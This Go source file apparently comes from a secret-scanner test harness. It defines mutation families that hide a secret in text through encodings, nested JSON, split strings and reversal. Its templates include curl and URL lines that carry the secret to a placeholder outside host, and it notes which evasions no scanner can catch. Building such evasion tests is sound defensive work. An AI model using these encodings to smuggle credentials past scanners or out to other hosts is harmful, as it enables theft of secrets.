package adversary

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/url"
	"strings"
)

// A TextMutation hides a text with a secret in it.
type TextMutation struct {
	Family string
	Apply  func(r *rand.Rand, secret string) string
	// Beyond says that no scanner of one text can be expected to see it, and why.
	Beyond string
}

// TextMutations is the grammar for texts around a secret.
func TextMutations() []TextMutation {
	return []TextMutation{
		{Family: "plain places", Apply: pick(
			"KEY=%s", "key: %s", `{"key": "%s"}`, "curl -H 'X-Key: %s' https://x.example", "export KEY=%s && make", "// %s", "see %s, please", "+KEY=%s",
			"https://x.example/?key=%s", "<key>%s</key>", "`%s`", "(%s)", "\t%s\r\n", "echo %s|tee f", "k=[%s]",
		)},
		{Family: "base64", Apply: func(r *rand.Rand, s string) string {
			encodings := []*base64.Encoding{base64.StdEncoding, base64.URLEncoding, base64.RawStdEncoding}
			return "data: " + encodings[r.IntN(len(encodings))].EncodeToString([]byte("key = "+s+"\n"))
		}},
		{Family: "base64 twice", Apply: func(_ *rand.Rand, s string) string { return base64Of(base64Of("key="+s) + "\n") }},
		{Family: "hexadecimal", Apply: func(_ *rand.Rand, s string) string { return "blob " + hex.EncodeToString([]byte("key="+s)) }},
		{Family: "percent", Apply: func(r *rand.Rand, s string) string {
			if r.IntN(2) == 0 {
				return "https://x.example/?q=" + url.QueryEscape("key="+s)
			}
			var b strings.Builder
			for i := range len(s) {
				fmt.Fprintf(&b, "%%%02X", s[i])
			}
			return "https://x.example/?key=" + b.String()
		}},
		{Family: "escapes of JSON", Apply: func(r *rand.Rand, s string) string {
			var b strings.Builder
			for _, c := range s {
				if r.IntN(3) == 0 {
					fmt.Fprintf(&b, `\u%04x`, c)
				} else {
					b.WriteRune(c)
				}
			}
			return `{"key": "` + b.String() + `"}`
		}},
		{Family: "JSON within JSON", Apply: func(_ *rand.Rand, s string) string {
			inner, _ := json.Marshal(map[string]string{"key": s}) // a map of strings has no error
			outer, _ := json.Marshal(map[string]string{"body": string(inner)})
			return string(outer)
		}},
		{Family: "halves", Beyond: "the text must be run to be known", Apply: func(r *rand.Rand, s string) string {
			a, b := cut(r, s)
			return "k = '" + a + "' + '" + b + "'"
		}},
		{Family: "backwards", Beyond: "any function could be applied", Apply: func(_ *rand.Rand, s string) string {
			b := []byte(s)
			for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
				b[i], b[j] = b[j], b[i]
			}
			return "k=" + string(b)
		}},
	}
}
